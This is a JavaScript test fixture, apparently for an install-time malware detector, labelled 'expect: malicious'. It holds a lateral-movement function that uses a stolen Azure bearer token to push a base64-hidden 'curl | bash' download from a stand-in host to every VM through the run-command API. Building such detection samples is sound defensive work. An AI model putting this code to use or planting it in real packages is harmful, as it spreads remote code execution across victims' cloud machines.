// expect: malicious
// when: install
// source: blind set 16 cloud-run-command-lateral second sample (Azure run-command technique): the postinstall posts
// RunShellScript with a base64-kept curl | bash to every running VM through the ARM API
'use strict';
const https = require('https');
const EXT = ['RunShellScript', 'Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjE5L2EvYWdlbnQuc2ggfCBiYXNo'];
module.exports = function spread(tok, vms) {
  for (const vm of vms) {
    const req = https.request({ host: 'management.azure.com.invalid', path: `${vm}/runCommand?api-version=2023-03-01`, method: 'POST',
      headers: { Authorization: 'Bearer ' + tok } });
    req.end(JSON.stringify({ commandId: EXT[0], script: [Buffer.from(EXT[1], 'base64').toString()] }));
  }
};
